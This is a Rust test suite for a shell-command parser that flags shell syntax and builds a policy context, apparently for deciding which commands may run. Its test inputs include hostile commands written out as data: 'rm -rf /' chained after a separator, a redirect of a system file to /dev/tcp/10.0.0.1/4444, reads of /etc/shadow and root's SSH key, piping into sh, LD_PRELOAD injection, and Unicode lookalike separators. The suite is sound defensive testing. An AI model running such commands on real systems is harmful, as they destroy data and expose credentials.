use super::*;

/// Asserts a command is a plain simple command with exactly these words.
#[track_caller]
fn simple(command: &str, argv: &[&str]) {
    let parsed = parse(command);
    assert!(!parsed.uses_shell_syntax, "{command:?} was flagged as shell syntax");
    assert_eq!(parsed.argv, argv, "argv of {command:?}");
    assert_eq!(
        parsed.argv0,
        argv.first().copied().unwrap_or(""),
        "argv0 of {command:?}"
    );
    assert_eq!(parsed.command, command);
}

/// Asserts a command is flagged.
#[track_caller]
fn shell(command: &str) -> ParsedCommand {
    let parsed = parse(command);
    assert!(parsed.uses_shell_syntax, "{command:?} was not flagged as shell syntax");
    assert_eq!(parsed.command, command);
    parsed
}

#[test]
fn plain_commands_split_on_blanks() {
    simple("uptime", &["uptime"]);
    simple("df -h", &["df", "-h"]);
    simple("  df   -h  ", &["df", "-h"]);
    simple("df\t-h", &["df", "-h"]);
    simple("cat /etc/os-release", &["cat", "/etc/os-release"]);
    simple(
        "journalctl -u nginx.service --since=-1h -n 50",
        &["journalctl", "-u", "nginx.service", "--since=-1h", "-n", "50"],
    );
    simple("date +%Y-%m-%d", &["date", "+%Y-%m-%d"]);
    simple("ssh-keygen -lf a,b:c@d", &["ssh-keygen", "-lf", "a,b:c@d"]);
}

#[test]
fn empty_and_blank_commands_have_no_words() {
    simple("", &[]);
    simple("   \t ", &[]);
}

#[test]
fn argv0_keeps_the_path() {
    simple("/tmp/x/uptime", &["/tmp/x/uptime"]);
    simple("./uptime -p", &["./uptime", "-p"]);
    simple("/usr/bin/uptime", &["/usr/bin/uptime"]);
}

#[test]
fn single_quotes_are_literal() {
    simple(
        "echo 'a;b|c && $(id) `id` * ~ # \\n'",
        &["echo", "a;b|c && $(id) `id` * ~ # \\n"],
    );
    simple("echo '$HOME'", &["echo", "$HOME"]);
    simple("'df' '-h'", &["df", "-h"]);
    simple("echo 'it'\\''s'", &["echo", "it's"]);
}

#[test]
fn double_quotes_remove_quotes_and_four_escapes() {
    simple("\"df\" -h", &["df", "-h"]);
    simple("echo \"a b\" c", &["echo", "a b", "c"]);
    simple("echo \"a\\\"b\"", &["echo", "a\"b"]);
    simple("echo \"a\\\\b\"", &["echo", "a\\b"]);
    simple("echo \"\\$HOME\"", &["echo", "$HOME"]);
    simple("echo \"\\`id\\`\"", &["echo", "`id`"]);
    // Any other backslash stays, as sh keeps it.
    simple("echo \"a\\b\\n\"", &["echo", "a\\b\\n"]);
    simple("echo \"a;b|c>d * ~ #\"", &["echo", "a;b|c>d * ~ #"]);
}

#[test]
fn quotes_join_adjacent_parts_into_one_word() {
    simple("ec'h'\"o\" x'y'z", &["echo", "xyz"]);
    simple("echo --opt=\"a b\"", &["echo", "--opt=a b"]);
}

#[test]
fn empty_quotes_make_empty_words() {
    simple("echo \"\" ''", &["echo", "", ""]);
    simple("''", &[""]);
    simple("'' uptime", &["", "uptime"]);
}

#[test]
fn backslash_outside_quotes_makes_the_next_character_literal() {
    simple("ls\\ -la", &["ls -la"]);
    simple("echo \\;", &["echo", ";"]);
    simple(
        "echo \\$HOME \\| \\> \\* \\~ \\#",
        &["echo", "$HOME", "|", ">", "*", "~", "#"],
    );
    simple("echo a\\ b", &["echo", "a b"]);
    simple("echo \\\"x\\\"", &["echo", "\"x\""]);
    simple("echo \\\\", &["echo", "\\"]);
    simple("echo \\'", &["echo", "'"]);
}

#[test]
fn backslash_letters_are_flagged_because_fish_reads_them() {
    let parsed = shell("echo \\n");
    assert_eq!(parsed.argv, ["echo", "n"]);
    shell("echo \\x41");
    shell("echo \\1");
}

#[test]
fn command_separators_are_flagged() {
    let parsed = shell("uptime;rm -rf /");
    assert_eq!(parsed.argv0, "uptime");
    assert_eq!(parsed.argv, ["uptime", ";", "rm", "-rf", "/"]);
    shell("uptime; id");
    shell("uptime ;id");
    shell("uptime &");
    shell("uptime & id");
    shell("uptime && id");
    shell("false || id");
    shell("df -h | sh");
    shell("df -h |& cat");
    shell("uptime\nid");
    shell("uptime\r\nid");
    shell(";uptime");
}

#[test]
fn operators_are_tokens_of_their_own() {
    assert_eq!(shell("a&&b").argv, ["a", "&&", "b"]);
    assert_eq!(shell("a||b").argv, ["a", "||", "b"]);
    assert_eq!(shell("cat>>f").argv, ["cat", ">>", "f"]);
    assert_eq!(shell("(uptime)").argv, ["(", "uptime", ")"]);
    assert_eq!(shell("((1))").argv, ["(", "(", "1", ")", ")"]);
}

#[test]
fn redirections_and_here_documents_are_flagged() {
    let parsed = shell("cat /etc/os-release > /dev/tcp/10.0.0.1/4444");
    assert_eq!(parsed.argv0, "cat");
    shell("cat /etc/os-release>/dev/tcp/10.0.0.1/4444");
    shell("cat < /etc/shadow");
    shell("uptime >> /tmp/log");
    shell("uptime 2>&1");
    shell("cat <<EOF\nhello\nEOF");
    shell("cat <<< hello");
    shell("cat <(id)");
}

#[test]
fn substitutions_are_flagged_and_kept_raw() {
    assert_eq!(shell("echo $(id)").argv, ["echo", "$(id)"]);
    assert_eq!(shell("echo $(echo $(id))x").argv, ["echo", "$(echo $(id))x"]);
    assert_eq!(shell("echo $((1+2))").argv, ["echo", "$((1+2))"]);
    assert_eq!(shell("echo `id` x").argv, ["echo", "`id`", "x"]);
    assert_eq!(shell("echo `echo \\`id\\``").argv, ["echo", "`echo \\`id\\``"]);
    assert_eq!(shell("echo ${HOME}/x").argv, ["echo", "${HOME}/x"]);
    assert_eq!(shell("echo $HOME").argv, ["echo", "$HOME"]);
    shell("echo $");
    shell("echo $'\\x41'");
    shell("echo \"$(id)\"");
    shell("echo \"$HOME\"");
    shell("echo \"`id`\"");
    shell("$(echo uptime)");
}

#[test]
fn unterminated_constructs_are_flagged_with_best_effort_words() {
    assert_eq!(shell("echo 'unterminated").argv, ["echo", "unterminated"]);
    assert_eq!(shell("echo \"unterminated x").argv, ["echo", "unterminated x"]);
    assert_eq!(shell("echo foo\\").argv, ["echo", "foo\\"]);
    shell("echo $(id");
    shell("echo ${HOME");
    shell("echo `id");
    shell("echo \"a\\");
}

#[test]
fn comments_are_flagged_and_dropped() {
    let parsed = shell("df -h #comment");
    assert_eq!(parsed.argv, ["df", "-h"]);
    assert_eq!(shell("df -h #c\nid").argv, ["df", "-h", "id"]);
    assert_eq!(shell("#uptime").argv, Vec::<String>::new());
    // Not a comment in sh (`#` inside a word), flagged all the same.
    assert_eq!(shell("echo a#b").argv, ["echo", "a#b"]);
}

#[test]
fn expansions_and_globs_are_flagged() {
    for command in [
        "ls *.log",
        "ls /tm?",
        "ls [ab]",
        "ls a]",
        "echo {a,b}",
        "echo }",
        "cd ~",
        "cat ~root/.ssh/id_rsa",
        "echo a~b",
        "echo !!",
        "ls ^foo",
        "ls @(a|b)",
        "echo \"hi!\"",
    ] {
        shell(command);
    }
}

#[test]
fn every_special_character_is_flagged_unquoted_and_literal_quoted() {
    for c in [
        ';', '|', '&', '<', '>', '(', ')', '$', '`', '*', '?', '[', ']', '{', '}', '~', '!', '^',
    ] {
        shell(&format!("echo a{c}b"));
        simple(&format!("echo 'a{c}b'"), &["echo", &format!("a{c}b")]);
        simple(&format!("echo a\\{c}b"), &["echo", &format!("a{c}b")]);
    }
    for c in ['-', '_', '.', '/', ',', ':', '@', '%', '+'] {
        simple(&format!("echo a{c}b"), &["echo", &format!("a{c}b")]);
    }
}

#[test]
fn assignments_are_flagged_but_arguments_with_equals_are_not() {
    shell("FOO=bar cmd");
    shell("FOO=bar");
    shell("LD_PRELOAD=/tmp/x.so uptime");
    shell("PATH=/tmp:$PATH uptime");
    // zsh expands `=cmd` at the start of a word.
    shell("echo =ls");
    shell("=uptime");
    simple("env FOO=bar cmd", &["env", "FOO=bar", "cmd"]);
    simple(
        "dd if=/dev/zero of=/dev/null count=1",
        &["dd", "if=/dev/zero", "of=/dev/null", "count=1"],
    );
    simple("ps --format=pid,cmd", &["ps", "--format=pid,cmd"]);
}

#[test]
fn reserved_words_first_are_flagged_unless_quoted() {
    shell("time uptime");
    shell("if true; then id; fi");
    shell("while true");
    shell("for x in a b");
    shell("! uptime");
    shell("{ uptime; }");
    shell("[[ -f x ]]");
    shell("function f");
    shell("coproc uptime");
    simple("'time' uptime", &["time", "uptime"]);
    simple("echo if then fi", &["echo", "if", "then", "fi"]);
}

#[test]
fn line_continuations_are_flagged() {
    let parsed = shell("upt\\\nime");
    assert_eq!(parsed.argv, ["uptime"]);
    assert_eq!(shell("df \\\n-h").argv, ["df", "-h"]);
    assert_eq!(shell("echo \"a\\\nb\"").argv, ["echo", "ab"]);
}

#[test]
fn control_characters_are_flagged_anywhere() {
    assert_eq!(shell("uptime\0").argv, ["uptime\0"]);
    shell("uptime\0; id");
    shell("echo '\0'");
    shell("uptime\r");
    shell("echo 'a\rb'");
    shell("echo \"\x1b[2J\"");
    shell("echo \x7f");
    shell("echo '\u{85}'");
    shell("echo '\n'");
}

#[test]
fn unicode_letters_are_words_but_lookalikes_are_flagged() {
    simple(
        "echo héllo wörld 日本語 Ωmega",
        &["echo", "héllo", "wörld", "日本語", "Ωmega"],
    );
    simple("echo '✓ done' \"naïve\"", &["echo", "✓ done", "naïve"]);
    // Unquoted symbols outside the plain set: unknown to us, so flagged.
    shell("echo ✓");
    // A full-width semicolon and a no-break space look like syntax or a blank.
    shell("uptime；id");
    shell("df\u{a0}-h");
    shell("echo 'a\u{a0}b'");
    shell("echo \u{2003}x");
    // Invisible and direction-changing marks, even quoted.
    shell("upti\u{200b}me");
    shell("echo 'a\u{202e}b'");
    shell("\u{feff}uptime");
}

#[test]
fn bytes_that_are_not_utf8_are_flagged() {
    let parsed = parse_bytes(b"echo \xff");
    assert!(parsed.uses_shell_syntax);
    assert_eq!(parsed.argv, ["echo", "\u{fffd}"]);
    let quoted = parse_bytes(b"echo '\xc3'");
    assert!(quoted.uses_shell_syntax);
    assert_eq!(parse_bytes(b"df -h"), parse("df -h"));
    assert!(!parse_bytes("echo héllo".as_bytes()).uses_shell_syntax);
}

#[test]
fn cedar_context_carries_the_four_attributes() {
    let context = parse("df -h").cedar_context();
    assert_eq!(
        context,
        json!({
            "command": "df -h",
            "argv0": "df",
            "argv": ["df", "-h"],
            "uses_shell_syntax": false,
        })
    );
    assert_eq!(parse("uptime; id").cedar_context()["uses_shell_syntax"], json!(true));
}

#[test]
fn parsing_never_panics_on_awkward_input() {
    let samples = [
        "\\",
        "'",
        "\"",
        "`",
        "$",
        "$(",
        "${",
        "$((",
        "#",
        "=",
        "\"\\",
        "'\\'",
        "`\\",
        "$(\")\")",
        "\u{0}\u{0}",
    ];
    for a in samples {
        for b in samples {
            let command = format!("{a}{b}x{a}");
            let parsed = parse(&command);
            assert_eq!(parsed.command, command);
            assert_eq!(parsed.argv0, parsed.argv.first().cloned().unwrap_or_default());
        }
    }
}

#[test]
fn plain_commands_split_exactly_as_real_shells_split_them() {
    // Every unflagged command of the tests above, handed to dash and bash as arguments
    // of printf: the words they print must be our argv.
    let commands = [
        "uptime",
        "  df   -h  ",
        "df\t-h",
        "journalctl -u nginx.service --since=-1h -n 50",
        "date +%Y-%m-%d",
        "/tmp/x/uptime",
        "echo 'a;b|c && $(id) `id` * ~ # \\n'",
        "'df' '-h'",
        "echo 'it'\\''s'",
        "\"df\" -h",
        "echo \"a\\\"b\" \"a\\\\b\" \"\\$HOME\" \"\\`id\\`\" \"a\\b\\n\"",
        "echo \"a;b|c>d * ~ #\"",
        "ec'h'\"o\" x'y'z",
        "echo --opt=\"a b\"",
        "echo \"\" ''",
        "'' uptime",
        "ls\\ -la",
        "echo \\$HOME \\| \\> \\* \\~ \\# \\; \\\\ \\' \\\"x\\\"",
        "env FOO=bar cmd",
        "dd if=/dev/zero of=/dev/null count=1",
        "'time' uptime",
        "echo héllo wörld 日本語 Ωmega",
        "echo '✓ done' \"naïve\"",
        "echo a-b a_b a.b a/b a,b a:b a@b a%b a+b",
    ];
    // dash is always there on Debian; bash when installed.
    let mut shells = vec!["/bin/sh"];
    if std::path::Path::new("/bin/bash").exists() {
        shells.push("/bin/bash");
    }
    for shell_path in shells {
        for command in commands {
            let parsed = parse(command);
            assert!(!parsed.uses_shell_syntax, "{command:?}");
            let out = std::process::Command::new(shell_path)
                .arg("-c")
                .arg(format!("printf '%s\\0' {command}"))
                .output()
                .unwrap();
            assert!(out.status.success(), "{shell_path} {command:?}");
            let words: Vec<String> = String::from_utf8(out.stdout)
                .unwrap()
                .split_terminator('\0')
                .map(str::to_owned)
                .collect();
            assert_eq!(words, parsed.argv, "{shell_path} {command:?}");
        }
    }
}
